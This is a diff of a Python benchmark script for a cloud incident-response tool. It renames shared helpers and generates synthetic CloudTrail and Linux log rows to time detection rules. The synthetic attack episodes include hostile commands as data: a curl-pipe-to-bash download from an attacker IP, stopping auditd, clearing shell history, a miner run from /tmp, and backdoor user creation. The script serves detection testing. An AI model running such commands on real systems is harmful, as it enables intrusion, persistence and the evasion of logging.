@@ -7,25 +7,27 @@ account plus a few Linux hosts, next to the floor: one DuckDB full scan of the s
 Parquet files with a single `raw ILIKE '%stoplogging%'`, what grepping the timeline for
 one thing costs. The target is the whole rule set within 3x that floor.
 
-The timeline is written straight to Parquet in a case folder (no gzip files, no
-`cloudir timeline` run, which `ingest_cloudtrail.py` measures). CloudTrail records come
-from `ingest_cloudtrail.py`'s event builders and become rows through cloudir's own
-CloudTrail parser (`unwrap` + `to_row`), so every column holds what a real timeline would;
-Linux rows (`linux:auth`, `linux:bash_history`, about 5%) follow the `raw` shapes in
-docs/detection.md. Every row's raw JSON is unique (event and request ids, times, keys,
-ports), so Parquet dictionaries cannot make the scan cheaper than it is on real data.
-Each principal calls its own mix of about 40 APIs, mostly Describe/List/Get, so the
-enumeration correlations do not fire on benign traffic; about 0.1% of rows are attack
-episodes the shipped rules do fire on (StopLogging, an access key for another user, a
-GetSecretValue burst, console login without MFA, a public bucket policy, enumeration with
-AccessDenied, an SSH brute force, a reverse shell, ...), so the findings are not empty.
-Generation is seeded, runs one process per core, is not measured, and is cached under
---out keyed by rows and seed (`make clean` does not remove it; delete the folder).
+The timeline is written straight to Parquet in a case folder (no gzip files, no `cloudir
+timeline` run, which `ingest_cloudtrail.py` measures). CloudTrail records come from the
+event builders in `common.py` (the ones `ingest_cloudtrail.py` writes to files) and become
+rows through cloudir's own CloudTrail parser (`unwrap` + `to_row`), so every column holds
+what a real timeline would; Linux rows (`linux:auth`, `linux:bash_history`, about 5%)
+follow the `raw` shapes in docs/detection.md. Every row's raw JSON is unique (event and
+request ids, times, keys, ports), so Parquet dictionaries cannot make the scan cheaper
+than it is on real data. Each principal calls its own mix of about 40 APIs, mostly
+Describe/List/Get, so the enumeration correlations do not fire on benign traffic; about
+0.1% of rows are attack episodes the shipped rules do fire on (StopLogging, an access key
+for another user, a GetSecretValue burst, console login without MFA, a public bucket
+policy, enumeration with AccessDenied, an SSH brute force, a reverse shell, ...), so the
+findings are not empty. Generation is seeded, runs one process per core, is not measured,
+and is cached under --out keyed by rows and seed (`make clean` does not remove it; delete
+the folder).
 
 Each measured command runs as a fresh process, --repeat times (the median is reported),
 after one untimed floor run that warms the OS page cache for all of them. Peak memory is
-read as in `ingest_cloudtrail.py`: the largest process's RSS (`/usr/bin/time`, wait4) and
-the whole tree's PSS sampled from /proc; a run is killed if its tree passes --max-memory.
+read by `common.run_measured`, as for every benchmark: the largest process's RSS
+(`/usr/bin/time`, wait4) and the whole tree's PSS sampled from /proc; a run is killed if
+its tree passes --max-memory.
 - floor: DuckDB `SELECT count(*) ... WHERE raw ILIKE '%stoplogging%'` over the timeline
   Parquet, on a connection from `cloudir.analyze.duck.connect()` as cloudir's own;
 - rule compile: `cloudir rules validate <shipped rules> --json`: load, convert and
@@ -75,8 +77,8 @@ from typing import Any
 import msgspec
 
 # bench/ is on sys.path when this file runs as a script: the ingest benchmark's CloudTrail
-# builders and its process measuring are reused, so both benchmarks count the same way.
-from ingest_cloudtrail import (
+# account and its process measuring are shared (common.py), so both count the same way.
+from common import (
     ACCOUNT,
     BASE_EPOCH,
     MIB,
@@ -86,19 +88,19 @@ from ingest_cloudtrail import (
     Measured,
     Principal,
     World,
-    _accumulate,
-    _alnum,
-    _cloudir_bin,
-    _hex,
-    _log,
-    _memory_kib,
-    _proc_tree,
-    _stamp,
-    _uuid,
     bucket_resource,
     build_world,
+    cloudir_bin,
+    cumulative,
     ingress_params,
+    iso_stamp,
+    log,
     machine_info,
+    memory_kib,
+    process_tree,
+    random_alnum,
+    random_hex,
+    random_uuid,
     run_measured,
 )
 
@@ -243,7 +245,7 @@ class TimelineEventMaker(EventMaker):
         for p in world.principals:
             mix = PROFILES[principal_key(p)]
             self.profiles.append(
-                ([getattr(self, name) for name in mix], _accumulate(list(mix.values())))
+                ([getattr(self, name) for name in mix], cumulative(list(mix.values())))
             )
 
     def call(
@@ -323,13 +325,13 @@ class TimelineEventMaker(EventMaker):
             "resourcesSet": {"items": [{"resourceId": instance}]},
             "tagSet": {
                 "items": [
-                    {"key": "Name", "value": f"app-{_hex(rng, 6)}"},
+                    {"key": "Name", "value": f"app-{random_hex(rng, 6)}"},
                     {"key": "Environment", "value": "production"},
-                    {"key": "DeployId", "value": _uuid(rng)},
+                    {"key": "DeployId", "value": random_uuid(rng)},
                 ]
             },
         }
-        response = {"requestId": _uuid(rng), "_return": True}
+        response = {"requestId": random_uuid(rng), "_return": True}
         return "ec2.amazonaws.com", "CreateTags", params, response, {}
 
     def s3_list_objects(self, who: Principal) -> Call:
@@ -339,7 +341,7 @@ class TimelineEventMaker(EventMaker):
             "bucketName": bucket,
             "Host": f"{bucket}.s3.{self.region}.amazonaws.com",
             "list-type": "2",
-            "prefix": f"{rng.choice(('exports', 'db', 'logs/app'))}/2024/07/{_hex(rng, 4)}/",
+            "prefix": f"{rng.choice(('exports', 'db', 'logs/app'))}/2024/07/{random_hex(rng, 4)}/",
             "max-keys": "1000",
             "encoding-type": "url",
         }
@@ -349,7 +351,9 @@ class TimelineEventMaker(EventMaker):
                 "CipherSuite": "TLS_AES_128_GCM_SHA256",
                 "bytesTransferredIn": 0,
                 "AuthenticationMethod": "AuthHeader",
-                "x-amz-id-2": _alnum(rng, 76, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789+/"),
+                "x-amz-id-2": random_alnum(
+                    rng, 76, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789+/"
+                ),
                 "bytesTransferredOut": rng.randrange(300, 90_000),
             },
             "resources": [bucket_resource(bucket)],
@@ -458,7 +462,7 @@ class LinuxMaker:
         outcome: str | None = None,
     ) -> Row:
         pid = self.rng.randrange(900, 65_000)
-        stamp = _stamp(when)
+        stamp = iso_stamp(when)
         raw = msgspec.json.encode(
             {"timestamp": stamp, "host": host, "program": program, "pid": pid, "message": message}
         )
@@ -480,7 +484,7 @@ class LinuxMaker:
         )
 
     def command(self, when: int, host: str, user: str, command: str, cwd: str) -> Row:
-        stamp = _stamp(when)
+        stamp = iso_stamp(when)
         image = _image(command)
         raw = msgspec.json.encode(
             {
@@ -518,9 +522,9 @@ class LinuxMaker:
         if rng.random() < 0.5:
             template = rng.choice(BENIGN_COMMANDS)
             command = template.format(
-                h6=_hex(rng, 6),
-                h8=_hex(rng, 8),
-                h10=_hex(rng, 10),
+                h6=random_hex(rng, 6),
+                h8=random_hex(rng, 8),
+                h10=random_hex(rng, 10),
                 n=rng.randrange(5, 500),
                 a=rng.randrange(256),
                 b=rng.randrange(1, 255),
@@ -530,7 +534,7 @@ class LinuxMaker:
         port = rng.randrange(1024, 65_535)
         pick = rng.random()
         if pick < 0.3:
-            key = _alnum(
+            key = random_alnum(
                 rng, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
             )
             message = (
@@ -553,7 +557,7 @@ class LinuxMaker:
         if pick < 0.995:
             message = (
                 f"pam_unix(cron:session): session opened for user root(uid=0) by (uid=0) "
-                f"[job {_hex(rng, 8)}]"
+                f"[job {random_hex(rng, 8)}]"
             )
             return self.auth(when, host, "CRON", message, "root")
         message = f"Failed password for {user} from {ip} port {port} ssh2"  # a typo
@@ -593,11 +597,11 @@ class ChunkGenerator:
             region: TimelineEventMaker(world, worlds, rng, region) for region, _ in REGIONS
         }
         self.regions = [r for r, _ in REGIONS]
-        self.region_cum = _accumulate([w for _, w in REGIONS])
+        self.region_cum = cumulative([w for _, w in REGIONS])
         keys = [principal_key(p) for p in world.principals]
         self.index = {key: n for n, key in reversed(list(enumerate(keys)))}
         weights = [0.0 if key == "root" else w for key, w in zip(keys, world.weights, strict=True)]
-        self.principal_cum = _accumulate(weights)
+        self.principal_cum = cumulative(weights)
         self.who = list(range(len(keys)))
         self.linux = LinuxMaker(rng)
         self.errors = ErrorLog(CT_EVIDENCE, "synthetic")
@@ -664,9 +668,9 @@ class ChunkGenerator:
         response = {
             "accessKey": {
                 "userName": victim,
-                "accessKeyId": "AKIA" + _alnum(self.rng, 16),
+                "accessKeyId": "AKIA" + random_alnum(self.rng, 16),
                 "status": "Active",
-                "createDate": _stamp(times[1]),
+                "createDate": iso_stamp(times[1]),
             }
         }
         events = [
@@ -727,7 +731,7 @@ class ChunkGenerator:
             "Version": "2012-10-17",
             "Statement": [
                 {
-                    "Sid": f"Public{_hex(self.rng, 6)}",
+                    "Sid": f"Public{random_hex(self.rng, 6)}",
                     "Effect": "Allow",
                     "Principal": "*",
                     "Action": "s3:GetObject",
@@ -773,20 +777,20 @@ class ChunkGenerator:
     def ep_backdoor_user(self, times: list[int]) -> list[Row]:
         ip, agent = self.attack_ip(), self.rng.choice(ATTACKER_AGENTS)
         who = self.index["alice"]
-        name = f"svc-sync-{_hex(self.rng, 4)}"
+        name = f"svc-sync-{random_hex(self.rng, 4)}"
         user = {
             "path": "/",
             "userName": name,
-            "userId": "AIDA" + _alnum(self.rng, 17),
+            "userId": "AIDA" + random_alnum(self.rng, 17),
             "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}",
-            "createDate": _stamp(times[0]),
+            "createDate": iso_stamp(times[0]),
         }
         key = {
             "accessKey": {
                 "userName": name,
-                "accessKeyId": "AKIA" + _alnum(self.rng, 16),
+                "accessKeyId": "AKIA" + random_alnum(self.rng, 16),
                 "status": "Active",
-                "createDate": _stamp(times[1]),
+                "createDate": iso_stamp(times[1]),
             }
         }
         admin = {"userName": name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
@@ -834,7 +838,9 @@ class ChunkGenerator:
 
     def ep_download_exec(self, times: list[int]) -> list[Row]:
         ip = self.attack_ip()
-        return self._shell(times, [f"curl -fsSL http://{ip}/.x/{_hex(self.rng, 6)}.sh | bash"])
+        return self._shell(
+            times, [f"curl -fsSL http://{ip}/.x/{random_hex(self.rng, 6)}.sh | bash"]
+        )
 
     def ep_history_cleared(self, times: list[int]) -> list[Row]:
         return self._shell(times, ["unset HISTFILE", "history -c"])
@@ -848,12 +854,12 @@ class ChunkGenerator:
         return self._shell(times, ["systemctl stop auditd", "systemctl disable rsyslog"])
 
     def ep_exec_from_tmp(self, times: list[int]) -> list[Row]:
-        path = f"/tmp/.ICE-unix/{_hex(self.rng, 6)}"
+        path = f"/tmp/.ICE-unix/{random_hex(self.rng, 6)}"
         return self._shell(times, [f"chmod +x {path}", f"{path} -o pool.example.net:3333"])
 
     def ep_local_backdoor_user(self, times: list[int]) -> list[Row]:
         host = self.rng.choice(HOSTS)
-        name = f"sysupd{_hex(self.rng, 3)}"
+        name = f"sysupd{random_hex(self.rng, 3)}"
         command = f"useradd -m -s /bin/bash -G sudo {name}"
         message = (
             f"new user: name={name}, UID=1003, GID=1003, home=/home/{name}, "
@@ -983,7 +989,7 @@ def ensure_case(out: Path, rows: int, seed: int, workers: int) -> tuple[Path, di
     if manifest_path.exists() and timeline.is_dir():
         manifest = json.loads(manifest_path.read_text())
         if all(manifest.get(k) == v for k, v in wanted.items()):
-            _log(f"reusing the generated case {case_root}")
+            log(f"reusing the generated case {case_root}")
             return case_root, manifest
     need = rows * DISK_BYTES_PER_ROW
     free = shutil.disk_usage(out).free
@@ -997,7 +1003,7 @@ def ensure_case(out: Path, rows: int, seed: int, workers: int) -> tuple[Path, di
     building = case.root / (TIMELINE_DIR + ".building")
     building.mkdir()
     specs = plan_chunks(rows, seed)
-    _log(
+    log(
         f"generating {rows:,} timeline rows in {len(specs)} Parquet files under {timeline} "
         f"({workers} processes)"
     )
@@ -1014,7 +1020,7 @@ def ensure_case(out: Path, rows: int, seed: int, workers: int) -> tuple[Path, di
             total.by_evidence.update(stats.by_evidence)
             total.episodes.update(stats.episodes)
             if done % max(1, len(jobs) // 10) == 0 or done == len(jobs):
-                _log(
+                log(
                     f"  {done}/{len(jobs)} files, {total.rows:,} rows "
                     f"({time.monotonic() - started:.0f} s)"
                 )
@@ -1046,7 +1052,7 @@ def ensure_case(out: Path, rows: int, seed: int, workers: int) -> tuple[Path, di
         generation_seconds=round(time.monotonic() - started, 1),
     )
     manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
-    _log(
+    log(
         f"generated in {manifest['generation_seconds']} s: {parquet_bytes / MIB:,.0f} MiB "
         f"Parquet, {total.raw_bytes / MIB:,.0f} MiB of raw JSON "
         f"({total.raw_bytes / rows:,.0f} bytes a row), {total.attack_rows:,} attack rows"
@@ -1088,8 +1094,8 @@ def memory_guard(limit_mib: int) -> Iterator[list[str]]:
 
     def watch() -> None:
         while not done.wait(0.25):
-            tree = [pid for pid in _proc_tree(me) if pid != me]
-            used = sum(_memory_kib(pid) for pid in tree) // 1024
+            tree = [pid for pid in process_tree(me) if pid != me]
+            used = sum(memory_kib(pid) for pid in tree) // 1024
             if used > limit_mib:
                 fired.append(f"killed: its processes used {used:,} MiB (--max-memory {limit_mib})")
                 for pid in reversed(tree):
@@ -1129,7 +1135,7 @@ def repeat_measured(
     )
     runs: list[Measured] = []
     for n in range(repeat):
-        _log(f"  {what}: run {n + 1}/{repeat}")
+        log(f"  {what}: run {n + 1}/{repeat}")
         with memory_guard(max_memory_mib) as fired:
             m = run_measured(wrapped)
         if fired or m.returncode not in ok_codes:
@@ -1140,10 +1146,10 @@ def repeat_measured(
             else:
                 tail = " | ".join(m.stderr.strip().splitlines()[-3:])
                 reason = f"exit code {m.returncode}: {tail[-600:]}"
-            _log(f"  {what} FAILED after {m.seconds:.1f} s: {reason}")
+            log(f"  {what} FAILED after {m.seconds:.1f} s: {reason}")
             return Run(m, [round(r.seconds, 3) for r in [*runs, m]], reason)
         peak = max(m.max_rss_kib or 0, m.tree_pss_kib or 0) / 1024
-        _log(f"    {m.seconds:.2f} s, peak {peak:,.0f} MiB")
+        log(f"    {m.seconds:.2f} s, peak {peak:,.0f} MiB")
         runs.append(m)
     median = sorted(runs, key=lambda m: m.seconds)[len(runs) // 2]
     rss = [m.max_rss_kib for m in runs if m.max_rss_kib]
@@ -1265,7 +1271,7 @@ def _timed(fn: Callable[[], Any]) -> tuple[Any, float]:
 def _time_correlations(con: Any, ruleset: Any) -> list[dict[str, Any]]:
     """Each correlation again over the matched events `run_rules` left in `_hits`."""
     try:
-        from cloudir.analyze import correlate
+        from cloudir.analyze.sigma import correlation
     except ImportError:
         return []
     timed = []
@@ -1274,7 +1280,7 @@ def _time_correlations(con: Any, ruleset: Any) -> list[dict[str, Any]]:
         if corr is None:
             continue
         try:
-            ids, seconds = _timed(lambda n=n, corr=corr: correlate.run(con, n, corr))
+            ids, seconds = _timed(lambda n=n, corr=corr: correlation.run(con, n, corr))
             timed.append({"seconds": seconds, "events": len(ids), "title": rule.title})
         except Exception as exc:
             timed.append({"seconds": None, "error": str(exc).splitlines()[0], "title": rule.title})
@@ -1296,7 +1302,7 @@ def profile_engine(case_root: Path) -> dict[str, Any]:
 
         register = getattr(engine, "register_functions", None)
         if register is None:
-            from cloudir.analyze.sigma_sql import register_functions as register
+            from cloudir.analyze.sigma.runtime import register_functions as register
         con = connect(Case.open(case_root))
         register(con)
         files = engine.rule_files([], True)
@@ -1374,7 +1380,7 @@ def profile_engine(case_root: Path) -> dict[str, Any]:
 
 
 def machine(cloudir: str) -> dict[str, Any]:
-    """ingest_cloudtrail's machine facts, plus library versions and the engine's source."""
+    """common.machine_info's machine facts, plus library versions and the engine's source."""
     info = machine_info(cloudir)
     for package in ("duckdb", "pyarrow", "pySigma", "msgspec"):
         with contextlib.suppress(metadata.PackageNotFoundError):
@@ -1613,7 +1619,7 @@ def main(argv: Sequence[str] | None = None) -> int:
         parser.error("--rows, --repeat and --workers must be positive")
     out: Path = args.out.resolve()
     out.mkdir(parents=True, exist_ok=True)
-    cloudir = _cloudir_bin()
+    cloudir = cloudir_bin()
     facts = machine(cloudir)
 
     case_root, manifest = ensure_case(out, args.rows, args.seed, args.workers)
@@ -1641,11 +1647,11 @@ def main(argv: Sequence[str] | None = None) -> int:
     limits = {"timeout": args.timeout, "max_memory_mib": args.max_memory}
 
     floor_argv = [sys.executable, "-c", _FLOOR_SCRIPT, pattern, FLOOR_NEEDLE]
-    _log("warming the page cache: one untimed floor run")
+    log("warming the page cache: one untimed floor run")
     warm = repeat_measured(floor_argv, "floor warm-up", 1, (0,), **limits)
     if warm.failure:
         raise SystemExit(f"the floor query failed: {warm.failure}")
-    _log("measuring the floor")
+    log("measuring the floor")
     floor = repeat_measured(floor_argv, "floor", args.repeat, (0,), **limits)
     floor_out = _json_out(floor) or {}
     floor_note = (
@@ -1655,7 +1661,7 @@ def main(argv: Sequence[str] | None = None) -> int:
     )
 
     validate_argv = [cloudir, "rules", "validate", str(builtin_rules_dir()), "--json"]
-    _log("measuring rule compile (cloudir rules validate)")
+    log("measuring rule compile (cloudir rules validate)")
     compiled = repeat_measured(
         validate_argv, "rules validate", args.repeat, (0, EXIT_SKIPPED), **limits
     )
@@ -1667,7 +1673,7 @@ def main(argv: Sequence[str] | None = None) -> int:
     )
 
     detect_argv = [cloudir, "detect", "--case", str(case_root), "--json"]
-    _log("measuring cloudir detect")
+    log("measuring cloudir detect")
     detected = repeat_measured(
         detect_argv, "cloudir detect", args.repeat, (0, EXIT_FINDINGS), **limits
     )
@@ -1690,7 +1696,7 @@ def main(argv: Sequence[str] | None = None) -> int:
     targets = evaluate(rows, info)
     profile = None
     if args.per_rule:
-        _log("timing each rule alone (--per-rule)")
+        log("timing each rule alone (--per-rule)")
         profile = profile_engine(case_root)
     text = render(rows, targets, info, params, profile)
 
@@ -1711,7 +1717,7 @@ def main(argv: Sequence[str] | None = None) -> int:
     stem.with_suffix(".json").write_text(json.dumps(document, indent=2) + "\n")
     stem.with_suffix(".md").write_text(snippet)
     stem.with_suffix(".txt").write_text(text)
-    _log(f"results written to {stem}.json, .md and .txt")
+    log(f"results written to {stem}.json, .md and .txt")
     print(snippet)
     # A missed target is a result, as in ingest_cloudtrail.py; a command that did not
     # complete (crash, timeout, memory) is not, and fails the run.
